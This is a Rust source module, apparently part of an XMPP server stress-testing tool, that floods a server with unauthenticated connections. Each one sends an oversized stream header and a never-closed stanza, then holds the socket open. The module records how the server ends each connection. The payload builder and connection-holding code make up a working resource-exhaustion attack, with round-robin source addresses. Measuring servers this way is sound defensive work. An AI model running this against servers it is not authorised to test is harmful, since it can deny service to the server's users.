//! Unauthenticated connections sending the worst case a server must read before it can judge it:
//! a stream header with thousands of attributes, then, before STARTTLS, an `<iq>` holding as many
//! empty children as fit under the stanza size limit, never closed, and the connection held open.
//! RFC 6120 section 13.12 leaves bounding this to the server; the figures show whether it does.
//! Every way a connection ends is counted (stream error condition, close, reset, still open), and
//! a refusal is counted, never an error of the tool.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::{Semaphore, watch};
use tokio::task::JoinSet;

use super::{AbusePlan, Outcomes, stopped, summarise};
use crate::stats::Latency;

/// Bytes written per `write_all`, so progress is known when the server stops reading.
const WRITE_CHUNK_BYTES: usize = 16 * 1024;
/// How long a TCP connect may take before it counts as refused.
pub(crate) const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);
/// How much of the server's output is kept while looking for a stream error.
const SCAN_KEEP_BYTES: usize = 64 * 1024;
/// One empty child: `<a/>`.
const CHILD: &str = "<a/>";

/// The shape of the abusive payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayloadShape {
    /// Extra attributes on the stream header (`a0='x' a1='x' ...`; each name unique, so the
    /// header stays well-formed XML).
    pub header_attributes: usize,
    /// Size of the unfinished `<iq>` (its start tag plus empty children), bytes.
    pub stanza_bytes: usize,
}

/// The bytes of one abusive connection, built once and shared.
#[derive(Debug)]
pub struct Payload {
    /// Stream header followed by the unfinished stanza.
    pub bytes: Arc<[u8]>,
    /// Where the header ends in `bytes`.
    pub header_len: usize,
    /// Empty children in the stanza.
    pub children: usize,
}

impl PayloadShape {
    /// Builds the header (RFC 6120 section 4.7 attributes plus `header_attributes` more) and the
    /// unclosed `<iq type='get'>` padded with `<a/>` children up to `stanza_bytes`.
    pub fn build(&self, domain: &str) -> Payload {
        let mut header = format!(
            "<?xml version='1.0'?><stream:stream xmlns='jabber:client' \
             xmlns:stream='http://etherx.jabber.org/streams' to='{}' version='1.0'",
            crate::client::escape(domain)
        );
        for i in 0..self.header_attributes {
            header.push_str(&format!(" a{i}='x'"));
        }
        header.push('>');
        let open = "<iq type='get' id='abuse'>";
        let children = self.stanza_bytes.saturating_sub(open.len()) / CHILD.len();
        let mut bytes = Vec::with_capacity(header.len() + open.len() + children * CHILD.len());
        bytes.extend_from_slice(header.as_bytes());
        bytes.extend_from_slice(open.as_bytes());
        for _ in 0..children {
            bytes.extend_from_slice(CHILD.as_bytes());
        }
        Payload {
            bytes: bytes.into(),
            header_len: header.len(),
            children,
        }
    }
}

/// What the unauthenticated connections did.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct UnauthReport {
    /// Connections started.
    pub attempted: u64,
    /// Connections the server accepted (TCP).
    pub connected: u64,
    /// Stream header size, bytes, and its extra attributes.
    pub header_bytes: u64,
    pub header_attributes: u64,
    /// Unfinished stanza size, bytes, and its empty children.
    pub stanza_bytes: u64,
    pub children: u64,
    /// Connections that wrote every byte (the server read it all).
    pub fully_sent: u64,
    /// How each connection ended: `stream-error:<condition>@<stage>`, `closed@<stage>`,
    /// `reset@<stage>`, `open@<stage>` (still open at the stop; `open-after-stream-error:...` when
    /// the server sent a stream error but kept the connection), `refused:<kind>`; stages are
    /// `header`, `stanza` (part of it written) and `held` (all of it written).
    pub outcomes: Outcomes,
    /// Lifetime of the connections the server ended, from connect to the end.
    pub ended_after: Option<Latency>,
    pub note: String,
}

impl UnauthReport {
    pub(crate) fn panicked() -> Self {
        UnauthReport {
            note: "the task running the connections panicked".into(),
            ..UnauthReport::default()
        }
    }
}

/// How one connection ended.
struct Ending {
    label: String,
    connected: bool,
    fully_sent: bool,
    /// Set when the server ended it (not when the run stopped).
    ended_after: Option<Duration>,
}

/// Opens `plan.unauth_connections` connections (at most `plan.connect_concurrency` connecting at
/// once), each sending the payload and holding on until the server ends it or `stop` is set.
pub async fn run(plan: AbusePlan, stop: watch::Receiver<bool>) -> UnauthReport {
    let payload = Arc::new(plan.payload.build(plan.target.connector.domain()));
    let mut report = UnauthReport {
        header_bytes: payload.header_len as u64,
        header_attributes: plan.payload.header_attributes as u64,
        stanza_bytes: (payload.bytes.len() - payload.header_len) as u64,
        children: payload.children as u64,
        note: "plain TCP on the STARTTLS port, before STARTTLS; stanza never closed".into(),
        ..UnauthReport::default()
    };
    let ramp = Arc::new(Semaphore::new(plan.connect_concurrency.max(1)));
    let mut tasks = JoinSet::new();
    let mut ramp_stop = stop.clone();
    for n in 0..plan.unauth_connections {
        let permit = tokio::select! {
            _ = stopped(&mut ramp_stop) => break,
            permit = ramp.clone().acquire_owned() => match permit {
                Ok(p) => p,
                Err(_) => break,
            },
        };
        let source = source_for(&plan.abuse_sources, n);
        let payload = payload.clone();
        let stop = stop.clone();
        let address = plan.unauth_address;
        report.attempted += 1;
        tasks.spawn(async move { hold_one(address, source, payload, permit, stop).await });
    }
    let mut lifetimes = Vec::new();
    while let Some(joined) = tasks.join_next().await {
        let Ok(ending) = joined else {
            report.outcomes.add("task-panicked");
            continue;
        };
        report.connected += u64::from(ending.connected);
        report.fully_sent += u64::from(ending.fully_sent);
        lifetimes.extend(ending.ended_after);
        report.outcomes.add(&ending.label);
    }
    report.ended_after = summarise(lifetimes);
    report
}

/// Round robin over `sources`; `None` (the kernel's choice) when there are none.
pub(crate) fn source_for(sources: &[IpAddr], n: usize) -> Option<IpAddr> {
    (!sources.is_empty()).then(|| sources[n % sources.len()])
}

/// A TCP connection from `source` (if given) to `address`, bounded by [`CONNECT_TIMEOUT`].
pub(crate) async fn connect_from(
    address: SocketAddr,
    source: Option<IpAddr>,
) -> Result<TcpStream, String> {
    let socket = if address.is_ipv4() {
        TcpSocket::new_v4()
    } else {
        TcpSocket::new_v6()
    }
    .map_err(|e| format!("socket:{:?}", e.kind()))?;
    if let Some(ip) = source {
        socket
            .bind(SocketAddr::new(ip, 0))
            .map_err(|e| format!("bind:{:?}", e.kind()))?;
    }
    match tokio::time::timeout(CONNECT_TIMEOUT, socket.connect(address)).await {
        Ok(Ok(stream)) => Ok(stream),
        Ok(Err(e)) => Err(format!("{:?}", e.kind())),
        Err(_) => Err("timeout".into()),
    }
}

async fn hold_one(
    address: SocketAddr,
    source: Option<IpAddr>,
    payload: Arc<Payload>,
    permit: tokio::sync::OwnedSemaphorePermit,
    mut stop: watch::Receiver<bool>,
) -> Ending {
    let stream = connect_from(address, source).await;
    drop(permit);
    let stream = match stream {
        Ok(s) => s,
        Err(kind) => {
            return Ending {
                label: format!("refused:{kind}"),
                connected: false,
                fully_sent: false,
                ended_after: None,
            };
        }
    };
    let connected_at = Instant::now();
    let (mut rd, mut wr) = stream.into_split();
    // Shared by the write future and the endings in the same task; atomics only because the task
    // must be Send.
    let written = AtomicUsize::new(0);
    let write = async {
        for chunk in payload.bytes.chunks(WRITE_CHUNK_BYTES) {
            wr.write_all(chunk).await?;
            written.fetch_add(chunk.len(), Ordering::Relaxed);
        }
        Ok::<(), std::io::Error>(())
    };
    tokio::pin!(write);
    let mut writing = true;
    let mut scan = ServerScan::default();
    let mut buf = vec![0u8; 4096];
    let stage = |n: usize| {
        if n < payload.header_len {
            "header"
        } else if n < payload.bytes.len() {
            "stanza"
        } else {
            "held"
        }
    };
    let ended_by_server = |label: String, scan: &ServerScan| Ending {
        label: match &scan.condition {
            Some(c) => format!(
                "stream-error:{c}@{}",
                stage(written.load(Ordering::Relaxed))
            ),
            None => format!("{label}@{}", stage(written.load(Ordering::Relaxed))),
        },
        connected: true,
        fully_sent: written.load(Ordering::Relaxed) == payload.bytes.len(),
        ended_after: Some(connected_at.elapsed()),
    };
    loop {
        tokio::select! {
            _ = stopped(&mut stop) => {
                // A stream error the server sent without closing the connection still counts
                // as open: the server holds the resources.
                let label = match &scan.condition {
                    Some(c) => format!("open-after-stream-error:{c}@{}", stage(written.load(Ordering::Relaxed))),
                    None => format!("open@{}", stage(written.load(Ordering::Relaxed))),
                };
                return Ending {
                    label,
                    connected: true,
                    fully_sent: written.load(Ordering::Relaxed) == payload.bytes.len(),
                    ended_after: None,
                };
            }
            // A write error means the server is going away; the read side says how.
            _ = &mut write, if writing => writing = false,
            read = rd.read(&mut buf) => match read {
                Ok(0) => return ended_by_server("closed".into(), &scan),
                Ok(n) => scan.feed(&buf[..n]),
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => {
                    return ended_by_server("reset".into(), &scan);
                }
                Err(e) => return ended_by_server(format!("read:{:?}", e.kind()), &scan),
            },
        }
    }
}

/// Looks for `<stream:error>` in what the server sends and keeps its condition (the first child
/// element, RFC 6120 section 4.9.2). A text scan, not a parser: enough to label an ending.
#[derive(Debug, Default)]
pub(crate) struct ServerScan {
    text: String,
    pub(crate) condition: Option<String>,
}

impl ServerScan {
    pub(crate) fn feed(&mut self, bytes: &[u8]) {
        if self.condition.is_some() {
            return;
        }
        self.text.push_str(&String::from_utf8_lossy(bytes));
        if let Some(at) = self.text.find("<stream:error") {
            let after = &self.text[at..];
            if let Some(condition) = after
                .find('>')
                .map(|gt| &after[gt + 1..])
                .and_then(|rest| rest.find('<').map(|lt| &rest[lt + 1..]))
                .and_then(|name| {
                    let end = name.find(|c: char| c.is_whitespace() || c == '/' || c == '>')?;
                    Some(name[..end].to_owned())
                })
            {
                self.condition = Some(condition);
            }
            return;
        }
        if self.text.len() > SCAN_KEEP_BYTES {
            // Keep a tail long enough to hold a split `<stream:error` start tag.
            let cut = self.text.len() - 256;
            let cut = (cut..self.text.len())
                .find(|&i| self.text.is_char_boundary(i))
                .unwrap_or(self.text.len());
            self.text.drain(..cut);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_fills_the_stanza_with_empty_children() {
        let shape = PayloadShape {
            header_attributes: 3,
            stanza_bytes: 240_000,
        };
        let p = shape.build("localhost");
        let text = std::str::from_utf8(&p.bytes).unwrap_or_default();
        let header = &text[..p.header_len];
        assert!(header.ends_with(" a0='x' a1='x' a2='x'>"), "{header}");
        assert!(header.contains("to='localhost'"));
        let stanza = &text[p.header_len..];
        assert!(stanza.starts_with("<iq type='get' id='abuse'><a/>"));
        assert!(!stanza.contains("</iq>"), "the stanza is never finished");
        assert_eq!(p.children, (240_000 - 25) / 4);
        assert!(stanza.len() <= 240_000 && stanza.len() > 239_990);
    }

    #[test]
    fn scan_finds_the_condition_across_reads() {
        let mut s = ServerScan::default();
        s.feed(b"<stream:stream id='1'><stream:features/><stream:er");
        assert_eq!(s.condition, None);
        s.feed(b"ror><policy-violation xmlns='urn:ietf:params:xml:ns:xmpp-streams'/>");
        assert_eq!(s.condition.as_deref(), Some("policy-violation"));
    }

    #[test]
    fn scan_keeps_a_bounded_tail() {
        let mut s = ServerScan::default();
        for _ in 0..100 {
            s.feed(&[b'x'; 4096]);
        }
        assert!(s.text.len() <= SCAN_KEEP_BYTES + 4096);
        s.feed(b"<stream:error><connection-timeout/></stream:error>");
        assert_eq!(s.condition.as_deref(), Some("connection-timeout"));
    }
}
